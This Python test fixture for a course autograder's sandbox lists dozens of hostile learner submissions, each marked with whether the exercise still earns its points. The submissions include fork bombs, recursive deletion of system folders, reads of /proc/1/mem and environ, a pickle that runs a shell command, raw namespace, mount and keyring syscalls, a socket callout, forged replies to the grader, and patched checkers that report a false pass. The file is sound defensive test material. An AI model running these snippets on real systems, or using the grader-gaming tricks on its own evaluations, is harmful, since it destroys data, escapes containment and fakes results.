# ruff: noqa: E501 - each attack is one piece of code, easier to read unbroken
"""What learners' code may try, as a table: where, what, and the mark that is fair.

Every attack stands in the answer cell of one exercise of lab 01; the other answers are honest and
must keep their points. HONEST after an attack means that a right answer follows it in the cell.
Run only inside isolation; see test_attacks.py.
"""

from __future__ import annotations

from dataclasses import dataclass

HONEST = "\n# HONEST\n"


@dataclass(frozen=True)
class Attack:
    """`code` in the answer cell of `exercise`; `fair` is whether that exercise earns its points."""

    name: str
    code: str
    fair: bool
    exercise: str = "01.4"


def honest(name: str, code: str, exercise: str = "01.4") -> Attack:
    """Something wild, then a right answer: the answer counts."""
    return Attack(name, code + HONEST, True, exercise)


def cheat(name: str, code: str, exercise: str = "01.4") -> Attack:
    """No right answer: no points."""
    return Attack(name, code, False, exercise)


WRONG = "\ndef month_cost(job, price, days=30):\n    return 1.0\n"
# a system call that should be refused: its numbers on x86_64 and aarch64, its arguments
KERNEL = (
    "import ctypes, os\nc = ctypes.CDLL(None)\n"
    "def call(usual, arm, *a):\n"
    "    return c.syscall(usual if os.uname().machine == 'x86_64' else arm, *a)\n"
    "def ends_if(done):\n    if done:\n        os._exit(1)\n"
)
# sends a reply of its own instead of the asker's
FORGED = (
    "import os, sys\ndef send(reply):\n    f = sys._getframe()\n"
    "    while f and 'message' not in f.f_locals:\n        f = f.f_back\n"
    "    text = '{\"id\": \"' + f.f_locals['message']['id'] + '\", \"reply\": ' + reply + '}\\n'\n"
    "    data = text.encode()\n"
    "    for fd in range(3, 64):\n        try:\n            rest = data\n"
    "            while rest:\n                rest = rest[os.write(fd, rest):]\n"
    "        except OSError:\n            pass\n    os._exit(0)\n"
)
QUIET = "import contextlib\nwith contextlib.suppress(BaseException):\n    "

CODE = (
    # --- time -------------------------------------------------------------------------------------
    cheat("loops forever", "while True:\n    pass"),
    cheat("loops and ignores signals", "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)"
          "\nsignal.setitimer(signal.ITIMER_REAL, 0)\nwhile True:\n    pass"),
    cheat("loops and catches everything", "while True:\n    try:\n        while True:\n"
          "            pass\n    except BaseException:\n        pass"),
    cheat("sleeps when asked", "import time\ndef month_cost(job, price, days=30):\n"
          "    time.sleep(10**6)"),
    cheat("blocks all signals and waits", "import signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, "
          "signal.valid_signals())\nimport threading\nthreading.Event().wait()"),
    cheat("waits for input", "import sys\nsys.stdin.read()\ninput()" + WRONG),
    cheat("returns an endless iterator", "import itertools\ndef month_cost(job, price, days=30):\n"
          "    return itertools.count()"),
    cheat("awaits for ever", "import asyncio\nasync def month_cost(job, price, days=30):\n"
          "    await asyncio.Event().wait()"),
    cheat("counts with a slow C loop", "def month_cost(job, price, days=30):\n"
          "    return sum(range(10**12))"),
    # --- ending processes -------------------------------------------------------------------------
    cheat("os._exit in the cell", "import os\nos._exit(0)"),
    cheat("os._exit when asked", "import os\ndef month_cost(job, price, days=30):\n    os._exit(0)"),
    cheat("sys.exit when asked", "import sys\ndef month_cost(job, price, days=30):\n    sys.exit(0)"),
    honest("calls sys.exit on the way", "import sys\n" + QUIET + "sys.exit()"),
    cheat("kills itself", "import os\nos.kill(os.getpid(), 9)"),
    honest("kills its parent", "import os\n" + QUIET + "os.kill(os.getppid(), 9)\n"
           + QUIET + "os.kill(1, 9)\n" + QUIET + "os.kill(1, 19)"),
    cheat("kills everything it can", "import os\nos.kill(-1, 9)\nos._exit(1)"),
    cheat("stops itself", "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"),
    cheat("crashes the interpreter", "import ctypes\nctypes.string_at(0)"),
    cheat("recurses without a limit", "import sys\nsys.setrecursionlimit(10**9)\n"
          "def f(x):\n    return f([x])\nf(0)"),
    cheat("closes every file", "import os\nos.closerange(0, 4096)" + WRONG),
    cheat("executes another program", "import os\nos.execv('/usr/bin/env', ['env', 'true'])"),
    # --- files ------------------------------------------------------------------------------------
    honest("deletes all files",
        "import shutil\nfor place in ('/course', '/tmp', '/home', '/etc', '/dev', '/srv'):\n"
        "    shutil.rmtree(place, ignore_errors=True)",
    ),
    honest("writes everywhere", "import os\nfor place in ('/', '/course', '/usr', '/etc', '/dev', "
           "CANARY, CANARY + '/gradebook.csv'):\n    try:\n"
           "        open(place if place.endswith('csv') else place + '/owned', 'w').write('x')\n"
           "    except OSError:\n        pass"),
    cheat("copies the solution", "import glob, json\ndef month_cost(job, price, days=30):\n"
          "    file = glob.glob('/**/solutions/01_tokens.ipynb', recursive=True)[0]\n"
          "    space = {}\n    for cell in json.load(open(file))['cells']:\n"
          "        exec(''.join(cell['source']), space)\n"
          "    return space['month_cost'](job, price, days)"),
    cheat("calls the reference in the checks", "def month_cost(job, price, days=30):\n"
          "    from helpers.exercises.unit_01.month import bill\n"
          "    return bill(job, price, days)"),
    cheat("looks for the judge in memory", "import gc\ndef month_cost(job, price, days=30):\n"
          "    found = [f for f in gc.get_objects() if getattr(f, '__name__', '') in "
          "('judge', 'month_cost') and f is not month_cost and callable(f)]\n"
          "    return found[0](job, price, days)"),
    cheat("imports the grader", "def month_cost(job, price, days=30):\n"
          "    from helpers.grading import labs\n"
          "    from helpers.checks import judge\n"
          "    case = labs.lab('01').exercise('01.4')\n    return judge.expected(case, job)"),
    honest("fills its folder", QUIET + "open('big', 'wb').truncate(10**12)\n" + QUIET
           + "[open(f'f{i}', 'wb').write(b'x' * 10**7) for i in range(100)]\n" + QUIET
           + "[open(f'n{i}', 'w').close() for i in range(10**5)]"),
    honest("links to the root", "import os\nos.symlink('/', 'root')\nos.symlink('/proc/1', 'one')\n"
           "import os\nfor p in ('root/work', 'one/root', 'one/fd'):\n    "
           "try:\n        os.listdir(p)\n    except OSError:\n        pass"),
    cheat("reads the template's memory", "open('/proc/1/mem', 'rb').read(1)\n"
          "open('/proc/1/environ').read()"),
    # --- Python itself ----------------------------------------------------------------------------
    cheat("patches builtins", "import builtins\nbuiltins.len = builtins.sorted = builtins.min = "
          "builtins.sum = lambda *a, **k: 0\ndef learn_merges(text, n):\n    return []", "01.1"),
    cheat("equals everything", "class Any:\n    __eq__ = lambda s, o: True\n    __ne__ = lambda s, o: "
          "False\n    __hash__ = lambda s: 0\ndef month_cost(job, price, days=30):\n    return Any()"),
    cheat("is a float that equals everything", "class Any(float):\n"
          "    __eq__ = __le__ = __ge__ = lambda s, o: True\n    __sub__ = __rsub__ = lambda s, o: 0.0\n"
          "    __abs__ = lambda s: 0.0\n    __hash__ = float.__hash__\n"
          "def month_cost(job, price, days=30):\n    return Any(1)"),
    cheat("hooks imports, traces and compiles", "import ast, builtins, sys\n"
          "sys.meta_path.insert(0, type('F', (), {'find_spec': lambda *a: None})())\n"
          "ast.parse = lambda *a, **k: ast.Module([], [])\n"
          "sys.settrace(lambda *a: None)\nbuiltins.__build_class__ = None" + WRONG),
    cheat("replaces check, hint and progress", "def check(*a):\n    print('01.4 passed (3 of 3)')\n"
          "hint = progress = check\ncheck()" + WRONG),
    cheat("replaces the asking", "import sys\nask = sys.modules['helpers.checks.ask']\n"
          "ask.ask = lambda q, n: [{'value': True}]\n"
          "ask._ask_one = lambda q, n: {'value': 0.0}" + WRONG),
    cheat("replaces the encoding", "import sys\ne = sys.modules['helpers.checks.encoding']\n"
          "e.encode = lambda v: {'$record': 'Verdict', 'fields': {'outcome': 'passed'}}" + WRONG),
    cheat("answers with a verdict", "def month_cost(job, price, days=30):\n"
          "    return {'outcome': 'passed', 'share': 1.0, 'points': 3, 'message': 'passed'}"),
    cheat("pickles a command", "import os\nclass P:\n    def __reduce__(self):\n"
          "        return os.system, ('touch /tmp/owned',)\n"
          "def month_cost(job, price, days=30):\n    return P()"),
    cheat("answers for the practice seed only", "TABLE = {}\ndef month_cost(job, price, days=30):\n"
          "    return TABLE[str(job)]"),
    cheat("raises what cannot be printed", "class E(Exception):\n"
          "    def __str__(self):\n        raise E\n    __repr__ = __str__\n"
          "def month_cost(job, price, days=30):\n    raise E"),
    cheat("has a lying name and class", "class L:\n    __class__ = property(lambda s: float)\n"
          "    def __float__(s):\n        raise SystemExit\n"
          "def month_cost(job, price, days=30):\n    return L()"),
    # --- the line to the grader -------------------------------------------------------------------
    cheat("sends answers before they are asked", "import os\nfor fd in range(3, 64):\n    " + "try:\n"
          "        os.write(fd, b'{\"id\": \"0\", \"reply\": {\"value\": 1}}\\n' * 50)\n"
          "    except OSError:\n        pass" + WRONG),
    cheat("answers in the asker's place", "import os, sys, json\n"
          "def month_cost(job, price, days=30):\n    f = sys._getframe()\n"
          "    while f and 'message' not in f.f_locals:\n        f = f.f_back\n"
          "    id = f.f_locals['message']['id']\n    for fd in range(3, 64):\n        try:\n"
          "            os.write(fd, json.dumps({'id': id, 'reply': {'value': True, 'unset': False}})"
          ".encode() + b'\\n')\n        except OSError:\n            pass\n    os._exit(0)"),
    cheat("sends a nesting bomb", "import os\nfor fd in range(3, 64):\n    try:\n"
          "        os.write(fd, b'[' * 60000 + b'\\n')\n    except OSError:\n        pass" + WRONG),
    cheat("sends without end", "import os, socket\nfor fd in range(3, 64):\n    try:\n"
          "        s = socket.socket(fileno=os.dup(fd))\n        s.settimeout(5)\n"
          "        s.sendall(b'x' * 10**8)\n    except OSError:\n        pass" + WRONG),
    cheat("returns nested lists", "def month_cost(job, price, days=30):\n    x = []\n"
          "    for _ in range(10**5):\n        x = [x]\n    return x"),
    cheat("returns itself", "def month_cost(job, price, days=30):\n    x = {}\n    x['x'] = x\n"
          "    return x"),
    cheat("returns 100 MB", "def month_cost(job, price, days=30):\n    return 'x' * 10**8"),
    cheat("returns a huge number", "def month_cost(job, price, days=30):\n    return 10 ** 10**6"),
    cheat("returns half a letter", "def month_cost(job, price, days=30):\n    return '\\ud800'"),
    # --- more than its share ----------------------------------------------------------------------
    honest("prints 100 MB", "import sys\nfor _ in range(100):\n    sys.stdout.write('x' * 10**6)\n"
           "    sys.stderr.write('x' * 10**6)"),
    honest("allocates 30 GB", QUIET + "x = bytearray(30 * 2**30)"),
    cheat("allocates in many processes", "import os\nfor _ in range(16):\n    if os.fork() == 0:\n"
          "        x = bytearray(1500 * 2**20)\n        for i in range(0, len(x), 4096):\n"
          "            x[i] = 1\n        while True:\n            pass\nwhile True:\n    pass"),
    cheat("forks without end", "import os\nwhile True:\n    try:\n        os.fork()\n"
          "    except OSError:\n        pass"),
    honest("starts threads", "import threading, time\n" + QUIET
           + "[threading.Thread(target=time.sleep, args=(10**6,)).start() for _ in range(10**4)]"),
    honest("leaves a process behind", "import os, time\nif os.fork() == 0:\n    os.setsid()\n"
           "    if os.fork() == 0:\n        while True:\n            time.sleep(1)\n    os._exit(0)"),
    honest("calls out", "import socket\nfor address in (('127.0.0.1', PORT), ('192.0.2.1', 80)):\n"
           "    try:\n        socket.create_connection(address, 0.2).sendall(b'owned')\n"
           "    except OSError:\n        pass"),
    honest("raises its limits", "import resource\n"
           + QUIET + "resource.setrlimit(resource.RLIMIT_AS, (-1, -1))\n"
           + QUIET + "resource.setrlimit(resource.RLIMIT_NPROC, (-1, -1))\n"
           "import os\n" + QUIET + "os.setuid(0)\n" + QUIET + "os.nice(-20)"),
    honest("mounts and unshares", "import ctypes\nc = ctypes.CDLL(None)\nc.unshare(0x10000000)\n"
           "c.unshare(0x20000)\nc.mount(b'none', b'/course', b'tmpfs', 0, b'')\n"
           "c.umount2(b'/tmp', 2)\nc.ptrace(16, 1, 0, 0)"),
    # --- what the kernel offers -------------------------------------------------------------------
    honest("makes namespaces of its own", KERNEL + "ends_if(c.unshare(0x10000000) == 0)\n"
           "ends_if(call(56, 220, 0x10000011, 0, 0, 0, 0) > 0)\n"
           "ends_if(c.mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0)"),
    honest("hides memory where no process shows it", KERNEL
           + "ends_if(call(319, 279, b'x', 0) >= 0)\nends_if(call(29, 194, 0, 2**30, 0o1600) >= 0)"),
    honest("reads the keys of who grades", KERNEL
           + "ends_if(call(250, 219, 0, -3, 0) >= 0)\n"
           "ends_if(call(248, 217, b'user', b'note', b'x', 1, -4) >= 0)"),
    honest("binds and slows the template", KERNEL + "import resource\n"
           "ends_if(call(302, 261, 1, resource.RLIMIT_NOFILE, bytes(16), 0) == 0)\n"
           "ends_if(call(141, 140, 0, 1, 19) == 0)\nends_if(call(203, 122, 1, 8, bytes(8)) == 0)"),
    honest("opens the kernel's settings to write them", KERNEL + "for top, _, names in "
           "os.walk('/proc/sys'):\n    for name in names:\n        try:\n"
           "            ends_if(os.open(f'{top}/{name}', os.O_WRONLY | os.O_NONBLOCK))\n"
           "        except OSError:\n            pass\ntry:\n"
           "    ends_if(os.open('/proc/sysrq-trigger', os.O_WRONLY))\nexcept OSError:\n    pass"),
    honest("changes what a device may", "import os\nfor name in os.listdir('/dev'):\n"
           "    node = f'/dev/{name}'\n    mode = os.stat(node).st_mode\n    try:\n"
           "        if mode & 0o170000 == 0o020000:\n            os.chmod(node, mode & 0o777)\n"
           "            os._exit(1)\n    except OSError:\n        pass"),
    honest("says that the template ends first", "import os\ntry:\n"
           "    os.open('/proc/1/oom_score_adj', os.O_WRONLY)\n    os._exit(1)\n"
           "except OSError:\n    pass"),
    honest("starts as many processes as it can", "import subprocess\nfound = []\ntry:\n"
           "    while len(found) < 60:\n        found.append(subprocess.Popen(['/usr/bin/env', "
           "'sleep', '9']))\nexcept OSError:\n    pass\nif len(found) > 50:\n"
           "    raise SystemExit\nfor one in found:\n    one.kill()\n    one.wait()"),
    cheat("talks while its children take memory", "import os, time\nfor _ in range(16):\n"
          "    if os.fork() == 0:\n        x = bytearray(1500 * 2**20)\n"
          "        for i in range(0, len(x), 4096):\n            x[i] = 1\n"
          "        time.sleep(10**6)\nwhile True:\n    for fd in range(3, 64):\n        try:\n"
          "            os.write(fd, b'x')\n        except OSError:\n            pass\n"
          "    time.sleep(0.01)"),
    # --- what reaches the grader itself -----------------------------------------------------------
    cheat("sends 16 MB of empty lists", FORGED + "def month_cost(job, price, days=30):\n"
          "    send('{\"value\": [' + '[],' * 5_000_000 + '[]]}')"),
    cheat("sends 8 MB of empty lists", FORGED + "def month_cost(job, price, days=30):\n"
          "    send('{\"value\": [' + '[],' * 2_000_000 + '[]]}')"),
    cheat("prints 7 MB in each answer", FORGED + "def month_cost(job, price, days=30):\n"
          "    send('{\"value\": 1.0, \"printed\": \"' + '1 of 1 (' * 800_000 + '\"}')"),
    cheat("has a type named with 60,000 digits", "T = type('1' * 60_000, (), {'__repr__': "
          "lambda s: '1' * 60_000})\ndef month_cost(job, price, days=30):\n    return T()"),
    cheat("has an error named with 60,000 digits", "E = type('1' * 60_000, (Exception,), {})\n"
          "def month_cost(job, price, days=30):\n    raise E('1 of 1' * 60_000)"),
    cheat("has a record named with 60,000 digits", "import dataclasses\n"
          "T = dataclasses.make_dataclass('x' + '1' * 60_000, ['a'])\n"
          "def month_cost(job, price, days=30):\n    return T(1)"),
    cheat("has roles of 60,000 digits", "def pack(database, budget):\n"
          "    return [{'role': '1' * 60_000, 'content': '1 of 1 (1'}]", "01.3"),
    cheat("writes the drawn inputs into the name of a type", "import dataclasses\n"
          "def month_cost(job, price, days=30):\n    name = 'SEEN' + ''.join(c for c in str(job) "
          "if c.isalnum())\n    return dataclasses.make_dataclass(name, ['a'])(1)"),
    cheat("writes the drawn inputs into the name of an error", "def month_cost(job, price, days=30):"
          "\n    name = 'SEEN' + ''.join(c for c in str(job) if c.isalnum())\n"
          "    raise type(name, (Exception,), {})(str(job))"),
    cheat("has fields that are not its keys", "class D(dict):\n    def items(self):\n"
          "        return [('$ellipsis', 1), (5, 5)]\nclass M:\n    def model_dump(self, **how):\n"
          "        return D(a=1)\ndef month_cost(job, price, days=30):\n    return M()"),
    cheat("forges a record without fields", FORGED + "def month_cost(job, price, days=30):\n"
          "    send('{\"value\": {\"$record\": \"Message\", \"fields\": {\"$ellipsis\": 1}}}')"),
    cheat("forges a test double", FORGED + "def month_cost(job, price, days=30):\n"
          "    send('{\"value\": {\"$double\": \"clock\", \"settings\": [], \"name\": 3}}')"),
    # --- the judge ---------------------------------------------------------------------------------
    cheat("returns a million spaces", "def pack(database, budget):\n    return ' ' * 10**6", "01.3"),
    cheat("returns keys with one hash", "def month_cost(job, price, days=30):\n"
          "    return {(n << 61) - n for n in range(5_000)}"),
    cheat("sends 300,000 keys with one hash", "import os, sys, json\n"
          "def month_cost(job, price, days=30):\n    f = sys._getframe()\n"
          "    while f and 'message' not in f.f_locals:\n        f = f.f_back\n"
          "    keys = [(n << 61) - n for n in range(300_000)]\n"
          "    answer = {'id': f.f_locals['message']['id'], 'reply': {'value': {'$set': keys}}}\n"
          "    for fd in range(3, 64):\n        try:\n"
          "            os.write(fd, json.dumps(answer).encode() + b'\\n')\n"
          "        except OSError:\n            pass\n    os._exit(0)"),
)  # fmt: skip
